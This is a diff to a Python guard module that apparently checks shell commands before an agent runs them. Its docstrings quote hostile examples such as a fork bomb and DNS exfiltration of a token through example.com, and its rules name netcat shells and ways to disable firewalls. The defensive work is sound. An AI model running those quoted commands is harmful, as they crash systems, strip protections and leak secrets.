@@ -9,12 +9,13 @@ Stdlib only, Python 3.9+.
 
 from __future__ import annotations
 
+import os
 import posixpath
 
-from .guard_rules import VALUE_OPTIONS
+from .guard_rules import VALUE_OPTIONS, find_own, secret_words
 from .guard_rules import git_subcommand as _git_subcommand
 from .guard_rules import is_block_device as _is_block_device
-from .shell import Command, program_name
+from .shell import Command, glob_match, program_name
 from .shell import copy_targets as _copy_targets
 from .shell import has_option as _has_option
 from .shell import operands as _operands
@@ -22,7 +23,7 @@ from .shell import operands as _operands
 # For type checkers only: importing typing costs ~5 ms (see hookinput.py).
 TYPE_CHECKING = False
 if TYPE_CHECKING:
-    from typing import Any, Dict, Iterable, List, Protocol
+    from typing import Any, Dict, Iterable, List, Protocol, Tuple
 
     class State(Protocol):
         """What the checks ask of the line a command is in (guard_engine.State)."""
@@ -30,6 +31,9 @@ if TYPE_CHECKING:
         def classify(self, target: str) -> str: ...
 
         def classes(self, targets: Iterable[str]) -> List[str]: ...
+
+        @property
+        def guard(self) -> Any: ...
 
 
 def _targets(command: Command) -> List[str]:
@@ -89,7 +93,7 @@ def _find_delete(command: Command, state: State) -> bool:
     classes = [state.classify(root) for root in _find_roots(command)]
     if command.narrowed:
         classes = ["inside" if c == "project-root" else c for c in classes]
-    if "-delete" in args:
+    if "-delete" in find_own(args):  # not `-exec tool -delete {} ;`
         return any(c not in ("inside", "temp", "allowed", "unknown") for c in classes)
     runs = [args[i + 1] for i in range(len(args) - 1)
             if args[i] in ("-exec", "-execdir", "-ok", "-okdir")]
@@ -101,8 +105,9 @@ def _find_delete(command: Command, state: State) -> bool:
 
 def _rsync_delete(command: Command, state: State) -> bool:
     """rsync --delete (any --delete-*) into / , your home, or outside the project."""
-    if not any(word.startswith("--delete") or word in ("--remove-source-files",)
-               for word in command.args):
+    if not any(word.startswith("--del") or word in ("--remove-source-files",)
+               for word in command.args):  # --del is --delete-during
+
         return False
     operands = _operands(command.args, {"-e", "--rsh", "--exclude", "--include", "--filter",
                                         "-f", "--files-from", "--exclude-from", "--chmod"})
@@ -312,7 +317,289 @@ def _diskutil_erase(command: Command, state: State) -> bool:
     return True
 
 
+def _rm_unknown(command: Command, state: State) -> bool:
+    """rm -r of a path only known when it runs (`rm -rf "$DIR"`, `rm -rf $(cat list)`), unless
+    a literal start puts it inside the project or a temporary folder (`build/$NAME`,
+    `$(mktemp -d)`)."""
+    if command.roots:
+        return False
+    for target in _operands(command.args):
+        if ("$" not in target and "`" not in target) or state.classify(target) != "unknown":
+            continue  # (a relative path after `cd $DIR` is cd's question, not this rule's)
+        if target.startswith(("$(mktemp", "`mktemp")):
+            continue
+        head = target[:min(i for i in (target.find("$"), target.find("`"), len(target))
+                           if i >= 0)]
+        if "/" in head and ".." not in head and state.classify(
+                head.rpartition("/")[0] or "/") in ("inside", "temp", "allowed"):
+            continue
+        return True
+    return False
+
+
+def _switch_discards(command: Command, state: State) -> bool:
+    """git switch/checkout -f, --force, --discard-changes; a letter after -b, -B, -c, -C or
+    --orphan's is part of the new branch's name (`-bfix`, `-cfeature`)."""
+    _, rest = _git_subcommand(command)
+    for word in rest:
+        if word == "--":
+            return False
+        if word.startswith("--"):
+            name = word.split("=", 1)[0]
+            if len(name) >= 4 and ("--force".startswith(name) or
+                                   "--discard-changes".startswith(name)):
+                return True
+        elif word.startswith("-"):
+            for letter in word[1:]:
+                if letter in "bBcC":
+                    break
+                if letter == "f":
+                    return True
+    return False
+
+
+def _schedules(command: Command, state: State) -> bool:
+    """crontab that installs, edits or removes a table (not -l); launchctl that loads,
+    bootstraps, enables or submits a job."""
+    if command.program == "crontab":
+        return not _has_option(command.args, "-l|--list|-h|--help|-V")
+    operands = _operands(command.args)
+    return bool(operands) and operands[0] in ("load", "bootstrap", "enable", "submit",
+                                              "asuser")
+
+
+_SECRET_NAMES = ("KEY", "TOKEN", "SECRET", "PASS", "CRED", "AUTH", "SESSION", "COOKIE")
+
+
+def _dns_exfiltration(command: Command, state: State) -> bool:
+    """A DNS lookup of a name made from a variable or a command's output next to a literal
+    label (`dig $(... | base64).example.com`, `nslookup $TOKEN.example.com`), or from a
+    variable whose name says it holds a secret."""
+    for word in _operands(command.args):
+        if "$" not in word and "`" not in word:
+            continue
+        if any(name in word.upper() for name in _SECRET_NAMES):
+            return True
+        literal = word
+        for opener, closer in (("$(", ")"), ("`", "`"), ("${", "}")):
+            while opener in literal:
+                start = literal.index(opener)
+                end = literal.find(closer, start + len(opener))
+                literal = literal[:start] + literal[end + 1:] if end > 0 else literal[:start]
+        if "." in literal.strip(".$") or literal.startswith(".") or literal.endswith("."):
+            return True
+    return False
+
+
+def _power(command: Command, state: State) -> bool:
+    """shutdown, reboot, halt, poweroff; init/telinit 0 or 6; systemctl or loginctl
+    poweroff/reboot/halt/suspend; kill of every process (`kill -9 -1`)."""
+    program, args = command.program, command.args
+    operands = _operands(args)
+    if program in ("shutdown", "reboot", "halt", "poweroff"):
+        return "--help" not in args  # (shutdown -h is halt)
+    if program in ("init", "telinit"):
+        return operands[:1] in (["0"], ["6"], ["1"])
+    if program in ("systemctl", "loginctl"):
+        return operands[:1] in (["poweroff"], ["reboot"], ["halt"], ["kexec"], ["kill-user"],
+                                ["kill-session"], ["terminate-user"], ["emergency"],
+                                ["rescue"])
+    return "-1" in args[args.index("--") + 1:] if "--" in args else \
+        any(word == "-1" for word in args[1:]) or args[-1:] == ["-1"]
+
+
+_SECURITY_UNITS = ("firewalld", "ufw", "apparmor", "auditd", "selinux", "nftables",
+                   "iptables", "fail2ban", "sshguard", "crowdstrike", "falcon-sensor")
+
+
+def _security_off(command: Command, state: State) -> bool:
+    program, args = command.program, command.args
+    operands = _operands(args)
+    if program in ("iptables", "ip6tables"):
+        return _has_option(args, "-F|--flush|-X|--delete-chain") or (
+            _has_option(args, "-P|--policy") and "ACCEPT" in args)
+    if program == "nft":
+        return operands[:2] in (["flush", "ruleset"],) or operands[:1] == ["flush"]
+    if program == "ufw":
+        return operands[:1] in (["disable"], ["reset"])
+    if program == "setenforce":
+        return operands[:1] in (["0"], ["Permissive"], ["permissive"])
+    if program == "spctl":
+        return _has_option(args, "--master-disable|--global-disable|--disable")
+    if program == "csrutil":
+        return operands[:1] in (["disable"],)
+    if program in ("aa-teardown",):
+        return True
+    if program == "auditctl":
+        return _has_option(args, "-D|-e") and ("-D" in args or "0" in args)
+    if program in ("systemctl", "service"):
+        words = [word.lower() for word in operands]
+        return any(verb in words for verb in ("stop", "disable", "mask", "kill")) and \
+            any(word.split(".", 1)[0] in _SECURITY_UNITS for word in words)
+    return False
+
+
+def _netcat_shell(command: Command, state: State) -> bool:
+    """netcat running a program for whoever connects (-e/-c), socat's exec:/system:, and a
+    shell whose input or output is a /dev/tcp or /dev/udp connection."""
+    program, args = command.program, command.args
+    if program in ("nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"):
+        return _has_option(args, "-e|-c|--exec|--sh-exec|--lua-exec")
+    if program == "socat":
+        return any(word.lower().startswith(("exec:", "system:")) or
+                   ",exec:" in word.lower() for word in args)
+    return False
+
+
+_CODE_KEYS = ("core.hookspath", "core.fsmonitor", "diff.external", "core.gitproxy",
+              "gpg.program", "core.askpass", "merge.tool")
+
+
+def _config_runs_code(command: Command, state: State) -> bool:
+    """git config setting a key whose value git runs later (not --get, --list, --unset)."""
+    _, rest = _git_subcommand(command)
+    if _has_option(rest, "--get|--get-all|--get-regexp|-l|--list|--unset|--unset-all|-e|"
+                         "--edit|--show-origin|--name-only"):
+        return False
+    operands = _operands(rest, {"-f", "--file", "--blob", "--type"})
+    if operands[:1] == ["set"]:  # git 2.46: git config set KEY VALUE
+        operands = operands[1:]
+    if len(operands) < 2:
+        return False
+    key = operands[0].lower()
+    if key == "core.hookspath":  # hooks kept in the project (.githooks, .husky) are its own
+        return state.classify(operands[1]) not in ("inside", "project-root")
+    return key in _CODE_KEYS or (key.startswith("filter.") and
+                                 key.endswith((".clean", ".smudge", ".process")))
+
+
+def _code_paths(args: List[str]) -> List[str]:
+    """Protected paths written out in code given on the command line (a quoted path)."""
+    found: List[str] = []
+    for word in args:
+        if "/" in word and (" " in word or '"' in word or "'" in word):
+            for quote in ('"', "'"):
+                pieces = word.split(quote)[1::2]
+                found += [piece for piece in secret_words(pieces) if "/" in piece]
+    return found
+
+
+
+def _sed_writes(args: List[str]) -> List[Tuple[str, str]]:
+    """The files a sed script writes with its `w FILE` command or `s///w FILE` flag."""
+    scripts = [args[i + 1] for i in range(len(args) - 1) if args[i] in ("-e", "--expression")]
+    if not scripts:
+        operands = _operands(args)
+        scripts = operands[:1]
+    changes: List[Tuple[str, str]] = []
+    for script in scripts:
+        for piece in script.replace(";", "\n").split("\n"):
+            at = max(piece.find("w "), piece.find("W "))
+            if at >= 0:
+                target = piece[at + 2:].strip()
+                if target[:1] in ("/", "~", ".", "$"):
+                    changes.append(("write", target))
+    return changes
+
+
+
+def _glob_takes(glob: str, pattern: str) -> bool:
+    """Whether a removed glob (relative, lowered) takes a protected path's folder: `.c*` takes
+    .claude/settings.json (a glob starts a dotted name only when it starts with a dot)."""
+    parts = pattern.rstrip("/").split("/")
+    depth = glob.count("/") + 1
+    if depth > len(parts):
+        return False
+    head = "/".join(parts[:depth])
+    if parts[depth - 1].startswith(".") and not glob.rpartition("/")[2].startswith("."):
+        return False
+    return glob_match(head, glob)
+
+
+def _certificate(path: str) -> bool:
+    """Whether a .pem file holds certificates only: by its text when it can be read (a private
+    key's block says PRIVATE KEY), else by its name (cert, chain, ca, bundle)."""
+    try:
+        with open(path, "rb") as file:
+            text = file.read(1 << 16)
+    except OSError:
+        name = os.path.basename(path).lower()
+        return "key" not in name and any(word in name for word in (
+            "cert", "chain", "bundle", "ca.", "ca-", "-ca", "_ca", "root", "intermediate",
+            "trust", "x509", "crt"))
+    return b"PRIVATE KEY" not in text and b"CERTIFICATE" in text
+
+
+def _fork_bomb(line: str) -> bool:
+    """A function that runs itself twice in the background (`:(){ :|:& };:`), or a loop of
+    fork() calls in interpreter code (`perl -e 'fork while fork'`)."""
+    flat = "".join(line.split())
+    if "forkwhilefork" in flat or any(loop in flat for loop in (
+            "while1:os.fork()", "whileTrue:os.fork()", "while(1){fork", "while(true){fork",
+            "loop{fork", "whiletrue;dofork")):
+        return True
+    at = flat.find("(){")
+    while at > 0:
+        start = at
+        while start > 0 and flat[start - 1] not in ";&|\n{}()":
+            start -= 1
+        name = flat[start:at]
+        if name.startswith("function"):
+            name = name[len("function"):]
+        end = flat.find("}", at)
+        body = flat[at + 3:end if end > 0 else len(flat)]
+        if name and body.count(name) >= 2 and ("&" in body or "|" in body):
+            return True
+        at = flat.find("(){", at + 3)
+    return False
+
+
+
+def _unknown_program_as(command: Command, state: State) -> bool:
+    """A program word made when the line runs (`$X -rf ~`, `$(echo rm) -rf ~`): whether the
+    same arguments break a rule for rm, git, dd, find, shred or chmod."""
+    from .shell_syntax import Word
+
+    for program in ("rm", "git", "dd", "find", "shred", "chmod"):
+        guess = Command([Word(program, program), *command.words[1:]], command.redirects,
+                        command.via)
+        guess.dynamic_args, guess.roots = command.dynamic_args, command.roots
+        if state.guard._check_command(guess, state, None) is not None:
+            return True
+    return False
+
+
+def _fork_bomb_line(line: str, _: object) -> bool:
+    return _fork_bomb(line)
+
+
+def _certificate_file(path: str, _: object) -> bool:
+    return _certificate(path)
+
+
+def _sed_writes_of(args: List[str], _: object) -> List[Tuple[str, str]]:
+    return _sed_writes(args)
+
+
+def _code_paths_of(args: List[str], _: object) -> List[str]:
+    return _code_paths(args)
+
+
 CHECKS: Dict[str, Any] = {
+    "fork_bomb_line": _fork_bomb_line,
+    "certificate": _certificate_file,
+    "glob_takes": _glob_takes,
+    "sed_writes": _sed_writes_of,
+    "code_paths": _code_paths_of,
+    "unknown_program_as": _unknown_program_as,
+    "config_runs_code": _config_runs_code,
+    "power": _power,
+    "security_off": _security_off,
+    "netcat_shell": _netcat_shell,
+    "rm_unknown": _rm_unknown,
+    "switch_discards": _switch_discards,
+    "schedules": _schedules,
+    "dns_exfiltration": _dns_exfiltration,
     "rm_root_or_home": _rm_root_or_home,
     "rm_project_root": _rm_project_root,
     "rm_outside": _rm_outside,
